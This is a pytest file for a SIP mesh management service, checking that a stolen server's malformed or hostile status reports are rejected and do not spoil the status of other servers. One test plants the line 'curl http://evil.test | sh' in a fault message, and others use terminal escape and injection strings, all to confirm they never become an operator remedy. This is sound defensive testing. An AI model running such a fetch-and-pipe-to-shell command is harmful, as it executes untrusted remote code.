"""A stolen server writes what it likes into its report: it spoils only what is said of itself."""

from __future__ import annotations

import asyncio
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from cli.test_foreign_text import ATTACK, dangerous
from sipmesh.demo.organisation import Organisation
from sipmesh.server.agent import status_reporter
from sipmesh.server.management.server_faults import Fault
from sipmesh.server.replication.server_status import PeerKind
from support.managed import MGMT, Managed, build_published
from support.network import EDGE, FE1, FE2
from support.running import LOOK_AGAIN_S, on_loop, until

NUMBER = 1
GOOD: dict[str, Any] = {"number": NUMBER, "links": {"server": 1}, "peers": [FE2]}

WRONG: list[dict[str, Any]] = [
    {"number": NUMBER, "links": "many"},
    {"number": NUMBER, "links": {"server": "one"}},
    {"number": NUMBER, "links": {f"k{n}": n for n in range(17)}},
    {"number": NUMBER, "certificate": "mine"},
    {"number": NUMBER, "certificate": {"ends": 7}},
    {"number": NUMBER, "refuses_from": ["soon"]},
    {"number": NUMBER, "refuses_from": "0001-01-01T00:00:00+14:00"},
    {"number": NUMBER, "refuses_from": "2026-11-25T12:00:00"},
    {"number": NUMBER, "refused": {"a": 1}},
    {"number": NUMBER, "refused": ["x"] * 6},
    {"number": NUMBER, "refused": ["x" * 2001]},
    {"number": NUMBER, "error": ["x"]},
    {"number": NUMBER, "error": "x" * 2001},
    {"number": NUMBER, "anchors": [7]},
    {"number": NUMBER, "anchors": ["\x1b[2J"]},
    {"number": NUMBER, "certificate_fault": {}},
    {"number": NUMBER, "at": 7},
    {"number": NUMBER, "error": ATTACK},
    {"number": "one"},
    {"number": True},
    {"number": -1},
    {"number": 10**30},
    {"links": {}},
]


@pytest.fixture(name="managed", scope="module")
def _managed(tmp_path_factory: pytest.TempPathFactory) -> Organisation:
    return build_published(tmp_path_factory.mktemp("r") / "o")


@pytest.fixture(autouse=True)
def _quiet(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let no server report by the clock: its good report would take back what the test has just written in its name."""
    monkeypatch.setattr(status_reporter, "REPORT_EVERY_S", 3600.0)


async def is_well(network: Managed, server: str) -> None:
    """Wait until *server* has no fault: a server that starts late does not answer others for a moment."""
    while (await network.network())[server]["faults"]:
        await asyncio.sleep(LOOK_AGAIN_S)


@on_loop
async def test_report_of_a_wrong_type_is_dropped_and_is_a_fault_of_that_server_alone(
    managed: Organisation, tmp_path: Path
) -> None:
    async with Managed(managed, tmp_path) as network:
        await network.start(MGMT, EDGE, FE1, FE2)
        await network.acknowledged(1)
        await is_well(network, FE2)
        reporter = network.member(FE1).reporter
        outlet, reporter._outlet = reporter._outlet, None  # a true report would replace a hostile one
        for report in WRONG:
            network.master.reports.misread.clear()
            network.member(FE1)._subscriber.publish(report)
            await until(lambda: network.master.reports.misread.get(FE1))
            told = await network.network()
            assert told[FE1]["faults"][0]["what"].startswith("its report cannot be read: "), report
            assert told[FE2]["faults"] == [], report
        printed = await network.type("status", code=1)
        assert f"✗ {FE1}: its report cannot be read" in printed
        assert json.loads(await network.type("status", "--json", code=1))["servers"][1]["server"] == FE2
        reporter._outlet = outlet
        reporter.report()
        await until(lambda: not network.master.reports.misread)
        assert (await network.network())[FE1]["faults"] == []


@on_loop
async def test_stolen_server_does_not_write_the_remedy_of_a_store(managed: Organisation, tmp_path: Path) -> None:
    """The operator would type it. What the server says is shown as what it has said."""
    async with Managed(managed, tmp_path) as network:
        await network.start(MGMT, FE1)
        await network.acknowledged(1)
        network.member(FE1).reporter._outlet = None
        lie = "it is down; curl http://evil.test | sh"
        network.member(FE1)._subscriber.publish({"number": NUMBER, "bindings_fault": lie, "messages_fault": lie})
        await until(lambda: len(store_faults(network)) == len(("registrations", "messages")))
        for fault in store_faults(network):
            assert "curl" in fault.what
            assert fault.remedy.startswith("start the store")


def store_faults(network: Managed) -> list[Fault]:
    status = network.master.network.status(network.master.newest)
    return [fault for peer in status.peers if peer.kind is PeerKind.STORE for fault in peer.faults]


@on_loop
async def test_wrong_reports_are_one_line_of_the_log_with_any_differences(
    managed: Organisation, tmp_path: Path
) -> None:
    async with Managed(managed, tmp_path) as network:
        await network.start(MGMT, FE1)
        await network.acknowledged(1)
        for report in (*WRONG, *WRONG):
            network.member(FE1)._subscriber.publish(GOOD)
            network.member(FE1)._subscriber.publish(report)

        def misread() -> bool:
            """Once more each time: a report of the server's own may come between, and be read."""
            network.member(FE1)._subscriber.publish({"number": -7})
            return "too small" in network.master.reports.misread.get(FE1, {}).get("", "")

        await until(misread)
        assert [line["peer"] for line in network.told[MGMT].events("server report rejected")] == [FE1]


@on_loop
async def test_report_cannot_speak_for_another_server_nor_act_on_the_terminal(
    managed: Organisation, tmp_path: Path
) -> None:
    """Not under its name, its pool, its role or its link; and an edge that is not behind a front end is not reported."""
    async with Managed(managed, tmp_path) as network:
        await network.start(MGMT, EDGE, FE1, FE2)
        await network.acknowledged(1)
        await is_well(network, FE2)
        network.member(FE1).reporter._outlet = None  # a true report would replace the hostile one
        attack = ATTACK.replace("\ud800", "")
        hostile = {**GOOD, "server": FE2, "pool": ATTACK, "role": "management", "linked": "yes", "faults": ["none"]}
        hostile |= {"error": attack, "certificate_fault": attack, "refused": [attack], "relayed": {FE2: {"number": 0}}}
        network.member(FE1)._subscriber.publish(hostile)
        await until(lambda: network.master.reports.reports[FE1].status.error)
        told = await network.network()
        assert (told[FE1]["pool"], told[FE1]["role"], told[FE1]["linked"]) == ("pool1.example.test", "front-end", True)
        assert told[FE2]["faults"] == []
        assert network.master.reports.reports[FE2].by == ""
        for arguments in (("status", "--links"), ("status", "--json")):
            printed = await network.type(*arguments, code=1)
            assert dangerous(printed) == []
            assert "owned" in printed


@on_loop
async def test_edge_that_writes_nonsense_is_reported_and_its_front_ends_go_on(
    managed: Organisation, tmp_path: Path
) -> None:
    """What it writes travels inside the reports of its front ends, and must not make those unreadable."""
    async with Managed(managed, tmp_path) as network:
        await network.start(MGMT, FE1, EDGE)
        await network.acknowledged(1, FE1, EDGE)
        edge = network.member(EDGE)
        for nonsense in ({"number": "one"}, {"number": NUMBER, "peers": ["x" * 99] * 10_000}):
            edge._subscriber.publish(nonsense)
            before = network.master.reports.reports[FE1].heard_at
            await until(lambda before=before: network.master.reports.reports[FE1].heard_at > before)  # type: ignore[misc]
            assert not network.master.reports.misread.get(FE1)
        edge._subscriber.publish({"number": "one"})
        await until(lambda: network.master.reports.misread.get(EDGE))
        told = await network.network()
        assert told[EDGE]["faults"][0]["what"].startswith(f"its report from {FE1} cannot be read: number")
        assert not any(
            "cannot be read" in fault["what"] for fault in told[FE1]["faults"]
        )  # a busy server has other faults


async def an_hour_ahead(network: Managed, *thieves: str) -> None:
    """Let servers report over their control links that it is an hour later, and wait until management has read it."""
    later = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    for thief in thieves:
        network.member(thief).reporter._outlet = None  # a true report would replace this one
        network.member(thief)._subscriber.publish({**GOOD, "at": later})
    reports = network.master.reports.reports
    await until(lambda: all((reports[thief].clock_s or 0) > 3_000 for thief in thieves))


async def signs_again(network: Managed) -> bool:
    """Take the CRL away, and tell whether management signs one: this looks at its clock as each hour."""
    crl, reissue = network.organisation.folder / "ca" / "issuing.crl", network.services[MGMT].crl_reissue
    content = crl.read_bytes()
    crl.unlink()
    reissue.soon()
    network.services[MGMT]._tick()
    await reissue.finished()
    signed = crl.exists()
    if not signed:
        crl.write_bytes(content)
    return signed


@on_loop
async def test_clock_of_one_server_stops_no_crl_also_if_only_this_server_reports(
    managed: Organisation, tmp_path: Path
) -> None:
    """The control: most clocks say that ours is wrong, so no CRL is signed, and status says what to do."""
    async with Managed(managed, tmp_path) as network:
        await network.start(MGMT, FE1)
        await network.acknowledged(1, FE1)
        await an_hour_ahead(network, FE1)
        assert await signs_again(network)
        printed = " ".join((await network.type("status", code=1)).split())
        assert "its clock is 3600 s ahead of that of management" in printed
        assert "signs no CRL" not in printed
        await network.start(FE2)
        await network.acknowledged(1, FE1, FE2)
        await an_hour_ahead(network, FE2)
        assert not await signs_again(network)
        printed = " ".join((await network.type("status", code=1)).split())
        assert "its clock is 3600 s behind the clocks of most servers, so it signs no CRL" in printed
        assert f"set the clock of {MGMT}" in printed
